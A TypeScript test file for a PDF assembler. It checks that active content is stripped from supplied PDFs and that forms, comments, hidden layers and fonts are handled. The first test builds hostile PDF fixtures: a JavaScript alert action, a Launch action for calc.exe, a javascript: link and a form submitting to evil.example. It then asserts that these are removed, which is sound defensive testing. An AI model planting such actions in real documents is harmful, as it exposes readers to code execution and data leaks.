import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { expect, test } from 'vitest';
import { missingFonts } from '../../../electron/assembler/inspect/fonts.ts';
import { openSource } from '../../../electron/assembler/objects/open-source.ts';
import { openPdf } from '../../../electron/pdfium/open-pdf.ts';
import type { AssemblyNotice } from '../../../shared/pack/assembly.ts';
import { canReadPacks, complaints, objectsOf, packOf, wordsOn } from './pack-of.ts';
import { PAGE, type RawStream, simplePdf } from './raw-pdf.ts';

const annotation = (entries: string) => `<</Type/Annot/Rect[50 50 150 80]${entries}>>`;

/** Everything in the file that qpdf can read, as one text. */
function everything(file: string): string {
  return JSON.stringify([...objectsOf(file)]);
}

function kindsOf(notices: readonly AssemblyNotice[]): Record<string, string> {
  return Object.fromEntries(notices.map(({ kind, detail }) => [kind, detail]));
}

test.runIf(canReadPacks)(
  'nothing of a supplied file acts in the pack, and each removal is told',
  async () => {
    const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
    const annotations = [
      annotation(`/Subtype/Link/A${script}`),
      annotation('/Subtype/Link/A<</S/Launch/F(calc.exe)>>'),
      annotation('/Subtype/Link/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>'),
      annotation(`/Subtype/Link/A<</S/URI/URI(https://gov.uk)/Next ${script}>>`),
      annotation('/Subtype/Link/A<</S/URI/URI(javascript:alert)>>'),
      annotation('/Subtype/Screen/A<</S/Rendition>>'),
      annotation('/Subtype/RichMedia'),
      annotation('/Subtype/FileAttachment/FS 110 0 R/Contents(Costs)'),
      annotation(`/Subtype/Widget/FT/Tx/T(total)/V(42)/AA<</C ${script}>>/Parent 111 0 R`),
    ];
    const more: Record<number, string | RawStream> = {
      110: '<</Type/Filespec/F(costs.xlsx)/EF<</F 112 0 R>>>>',
      111: '<</T(form)/AA<</F<</S/SubmitForm/F(https://evil.example)>>>>>>',
      112: { entries: '/Type/EmbeddedFile', content: 'embedded bytes' },
      113: '<</Names[(costs.xlsx)110 0 R]>>',
      114: `<</Names[(start)${script}]>>`,
      115: { entries: '/Type/Metadata/Subtype/XML', content: '<secret metadata/>' },
    };
    const catalog = `/OpenAction${script}/AA<</WC${script}>>/Names<</EmbeddedFiles 113 0 R/JavaScript 114 0 R>>/AcroForm<</Fields[]/XFA(x)>>/Collection<<>>/Metadata 115 0 R`;
    const entries = `/MediaBox[0 0 595 842]/AA<</O${script}>>/Metadata 115 0 R/PieceInfo<</Secret(piece)>>/Annots[${annotations.join('')}]`;
    const bytes = simplePdf([{ entries }], catalog, more, '/Info 116 0 R');
    const { file, assembled } = await packOf([{ bytes }]);
    expect(complaints(file)).toBe('');
    const found = everything(file);
    for (const word of [
      'JavaScript',
      'alert',
      'Launch',
      'calc',
      'GoToR',
      'Rendition',
      'RichMedia',
      'embedded',
      'evil',
      'secret',
      'piece',
      'XFA',
      'EmbeddedFile',
      '/AA',
      'OpenAction',
    ])
      expect(found).not.toContain(word);
    expect(found).toContain('https://gov.uk');
    const kinds = kindsOf(assembled.notices);
    expect(Object.keys(kinds)).toEqual(
      expect.arrayContaining([
        'javascriptRemoved',
        'launchRemoved',
        'mediaRemoved',
        'attachmentsRemoved',
        'xfaRemoved',
        'formsFlattened',
      ]),
    );
    expect(kinds['attachmentsRemoved']).toContain('portfolio: costs.xlsx');
    expect(kinds['launchRemoved']).toContain('SubmitForm');
    expect(kinds['formsFlattened']).toBe('form.total');
  },
);

const look: RawStream = {
  entries: '/Type/XObject/Subtype/Form/BBox[0 0 100 30]/Resources<</Font<</F1 4 0 R>>>>',
  content: '/Tx BMC BT /F1 12 Tf 2 8 Td (Drawn value) Tj ET EMC',
};

test.runIf(canReadPacks)(
  'fields become part of their page: as they look, or as they are filled in',
  async () => {
    const widgets = [
      annotation('/Subtype/Widget/FT/Tx/T(a)/V(Other)/AP<</N 110 0 R>>'),
      annotation('/Subtype/Widget/FT/Tx/T(b)/V(Typed value)/DA(/Helv 9 Tf)/Rect[200 50 400 80]').replace(
        '/Rect[50 50 150 80]',
        '',
      ),
      annotation('/Subtype/Widget/FT/Ch/T(c)/V[(One)(Two)]/Rect[200 100 400 130]').replace(
        '/Rect[50 50 150 80]',
        '',
      ),
      annotation('/Subtype/Widget/FT/Tx/T(d)/V(Not to be seen)/F 2'),
      annotation(
        '/Subtype/Widget/FT/Tx/Ff 4096/T(e)/V(A long answer that takes several lines of the field)/Rect[200 200 300 280]',
      ).replace('/Rect[50 50 150 80]', ''),
      annotation('/Subtype/Widget/FT/Sig/T(signed)/V<</Type/Sig>>/AP<</N 111 0 R>>'),
      annotation('/Subtype/Widget/FT/Tx/Ff 8192/T(f)/V(Password)'),
    ];
    const bytes = simplePdf(
      [{ entries: `/MediaBox[0 0 595 842]/Annots[${widgets.join('')}]` }],
      '/AcroForm<</Fields[]>>',
      {
        110: look,
        111: { ...look, content: look.content.replace('Drawn value', 'Signed by Mary') },
      },
    );
    const { file, assembled } = await packOf([{ bytes }]);
    expect(complaints(file)).toBe('');
    const words = wordsOn(file, 1);
    for (const value of ['Drawn value', 'Typed value', 'One, Two', 'Signed by Mary'])
      expect(words).toContain(value);
    expect(words.replace(/\s+/g, ' ')).toContain('takes several');
    for (const value of ['Other', 'Not to be seen', 'Password']) expect(words).not.toContain(value);
    expect(everything(file)).not.toContain('/Widget');
    expect(kindsOf(assembled.notices)).toMatchObject({ signatureRemoved: 'signed' });
  },
);

test.runIf(canReadPacks)('a field that is tagged keeps its place in the structure as words', async () => {
  const bytes = simplePdf(
    [
      {
        entries: '/MediaBox[0 0 595 842]/StructParents 0/Annots[120 0 R]',
        content: '/P<</MCID 0>>BDC BT /F1 12 Tf 72 700 Td (Name:) Tj ET EMC',
      },
    ],
    '/AcroForm<</Fields[120 0 R]>>/MarkInfo<</Marked true>>/StructTreeRoot 100 0 R',
    {
      100: '<</Type/StructTreeRoot/K[101 0 R 102 0 R]/ParentTree<</Nums[0[101 0 R]1 102 0 R]>>>>',
      101: `<</S/P/P 100 0 R/Pg ${PAGE} 0 R/K 0>>`,
      102: `<</S/Form/P 100 0 R/Pg ${PAGE} 0 R/K<</Type/OBJR/Obj 120 0 R>>>>`,
      110: look,
      120: annotation('/Subtype/Widget/FT/Tx/T(a)/AP<</N 110 0 R>>/StructParent 1'),
    },
  );
  const { file, assembled } = await packOf([{ bytes }]);
  expect(assembled.notices.map(({ kind }) => kind)).not.toContain('untagged');
  const form = [...objectsOf(file).values()]
    .map((object) => (object as { value?: Record<string, unknown> }).value ?? {})
    .find((value) => value['/S'] === '/Form');
  expect(form?.['/K']).toMatchObject({ '/Type': '/MCR', '/MCID': 1 });
  expect(form?.['/A']).toEqual({ '/O': '/PrintField', '/Role': '/tv' });
});

test.runIf(canReadPacks)('comments stay or go as is wished, and say so', async () => {
  const comments = [
    annotation('/Subtype/Text/Contents(Check this figure)/T(Mary)/Popup 121 0 R/A<</S/JavaScript/JS(x)>>'),
    annotation('/Subtype/FreeText/Contents(Over the page)/AP<</N 110 0 R>>/IRT 120 0 R'),
  ];
  const bytes = simplePdf(
    [{ entries: `/MediaBox[0 0 595 842]/Annots[120 0 R 121 0 R ${comments[1]}]` }],
    '',
    {
      110: look,
      120: comments[0] ?? '',
      121: annotation('/Subtype/Popup/Parent 120 0 R'),
    },
  );
  const gone = await packOf([{ bytes }]);
  expect(everything(gone.file)).not.toContain('Check this figure');
  expect(gone.assembled.notices.map(({ kind }) => kind)).toContain('annotationsRemoved');
  const kept = await packOf([{ bytes }], { keepAnnotations: true });
  expect(complaints(kept.file)).toBe('');
  expect(everything(kept.file)).toContain('Check this figure');
  expect(everything(kept.file)).not.toContain('JavaScript');
  expect(kept.assembled.notices.map(({ kind }) => kind)).toContain('annotationsKept');
});

test.runIf(canReadPacks)('layers that are not shown stay hidden, are not offered, and are told', async () => {
  const content =
    '/OC/L1 BDC BT /F1 20 Tf 100 400 Td (Shown) Tj ET EMC /OC/L2 BDC BT /F1 20 Tf 100 300 Td (Hidden) Tj ET EMC';
  const page = simplePdf(
    [{ content }],
    '/OCProperties<</OCGs[110 0 R 111 0 R]/D<</OFF[111 0 R]/Order[110 0 R 111 0 R]>>>>',
    { 110: '<</Type/OCG/Name(Plan)>>', 111: '<</Type/OCG/Name(Costs of the bid)>>' },
  )
    .toString('latin1')
    .replace('/Resources<</Font', '/Resources<</Properties<</L1 110 0 R/L2 111 0 R>>/Font');
  const { file, bytes, assembled } = await packOf([{ bytes: Buffer.from(page, 'latin1') }]);
  expect(complaints(file)).toBe('');
  expect(assembled.notices.find(({ kind }) => kind === 'hiddenLayers')).toMatchObject({
    pages: [1],
    detail: 'Costs of the bid',
  });
  const pdf = await openPdf(bytes);
  const picture = pdf.draw(0, 595);
  pdf.close();
  const inked = (top: number, bottom: number) => {
    for (let at = top * 595 * 4; at < bottom * 595 * 4; at += 4)
      if ((picture.pixels[at] ?? 255) < 128) return true;
    return false;
  };
  expect(inked(842 - 420, 842 - 398)).toBe(true);
  expect(inked(842 - 320, 842 - 298)).toBe(false);
});

test.runIf(canReadPacks)(
  'a field that is written in Helvetica comes with letters of the same widths; another font is told',
  async () => {
    const font = (entries: string) => `<</Type/Font/Subtype/Type1${entries}>>`;
    const drawn = (key: string, words: string): RawStream => ({
      entries: `/Type/XObject/Subtype/Form/BBox[0 0 300 30]/Resources<</Font<</Helv 120 0 R/Bold 121 0 R/Cour 122 0 R>>>>`,
      content: `/Tx BMC BT /${key} 12 Tf 2 8 Td (${words}) Tj ET EMC`,
    });
    const widget = (at: number) =>
      `<</Type/Annot/Subtype/Widget/FT/Tx/T(f${at})/Rect[50 ${300 + 40 * at} 350 ${330 + 40 * at}]/AP<</N ${110 + at} 0 R>>>>`;
    const more = {
      110: drawn('Helv', 'Sum of all \\200 1,200.50'),
      111: drawn('Bold', 'Approved'),
      120: font('/BaseFont/Helvetica/Encoding<</Differences[128/Euro]>>'),
      121: font('/BaseFont/Helvetica-Bold/Encoding/WinAnsiEncoding'),
      122: font('/BaseFont/Courier'),
    };
    const plain = simplePdf(
      [{ entries: `/MediaBox[0 0 595 842]/Annots[${widget(0)}${widget(1)}]`, content: ' ' }],
      '',
      more,
    );
    // The page itself is written with none of its fonts.
    const bytes = Buffer.from(
      plain
        .toString('latin1')
        .replace(
          '/Resources<</Font<</F1 4 0 R>>>>/Contents 1000',
          '/Resources<<            >>          /Contents 1000',
        ),
      'latin1',
    );
    const { file, assembled } = await packOf([{ bytes }]);
    expect(complaints(file)).toBe('');
    const fonts = spawnSync('pdffonts', [file], { encoding: 'utf8' }).stdout.split('\n').slice(2, -1);
    const embedded = fonts.map((line) => [
      line.split(/\s+/)[0],
      / yes +(?:yes|no) +(?:yes|no) +\d+ +0$/.test(line),
    ]);
    expect(embedded).toEqual(
      expect.arrayContaining([
        ['Arimo-Regular', true],
        ['Arimo-Bold', true],
        ['Courier', false],
      ]),
    );
    const words = wordsOn(file, 1);
    expect(words).toContain('Sum of all € 1,200.50');
    expect(words).toContain('Approved');
    const pdf = await openPdf(readFileSync(file));
    const { text, boxes } = pdf.placedText(0);
    pdf.close();
    const end = text.indexOf('200.50') + '200.50'.length - 1;
    const helvetica = await (await PDFDocument.create()).embedFont(StandardFonts.Helvetica);
    const wide = helvetica.widthOfTextAtSize('Sum of all € 1,200.50', 12);
    expect(boxes[4 * end + 2]).toBeCloseTo(50 + 2 + wide, 0);
    const told = assembled.notices.find(({ kind }) => kind === 'fontsNotEmbedded');
    expect(told).toMatchObject({ pages: [1], detail: 'Courier' });
    expect(missingFonts((await openSource(bytes)).pages)).toEqual(['Courier']);
  },
);
